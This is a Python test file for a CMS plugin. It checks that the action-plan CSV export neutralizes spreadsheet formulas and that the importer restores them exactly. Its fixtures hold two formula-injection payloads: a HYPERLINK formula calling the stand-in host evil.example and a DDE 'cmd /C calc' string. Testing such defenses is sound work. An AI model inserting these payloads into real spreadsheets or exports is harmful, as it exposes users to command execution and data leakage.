"""The action plan CSV export neutralizes formula-like text and its importer restores it, so the
export/import round trip is exact (issue 19, item 5)."""
from __future__ import annotations

import csv
import io

from comun_cms.toolkit import db, tenant_context
from comun_cms.toolkit.testing import get_tenant
from plugins.action_plans import csv_io
from plugins.action_plans.models import ActionPlan

TITLE = '=HYPERLINK("http://evil.example/?x","Ver detalle")'


def test_export_neutralizes_and_read_rows_restores(app, make_plan):
    plan_id = make_plan(commitments=[{"title": TITLE, "milestones": [("@SUM(1+1)*cmd|' /C calc'!A0", 100,
                                                                       "started", 40, None, None)]}])
    with tenant_context(get_tenant(app, "edomex")):
        plan = db.session.get(ActionPlan, plan_id)
        text = csv_io.export_csv(plan, language="en")   # English headers: the column codes
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert rows[0]["title"] == "'" + TITLE
    assert rows[1]["title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[1]["weight"] == "100" and rows[1]["progress"] == "40"  # numbers stay numbers
    _delimiter, _header, read, errors, _shown = csv_io.read_rows(text.lstrip("\ufeff"))
    assert not errors
    assert read[0][1]["title"] == TITLE and read[1][1]["title"] == "@SUM(1+1)*cmd|' /C calc'!A0"
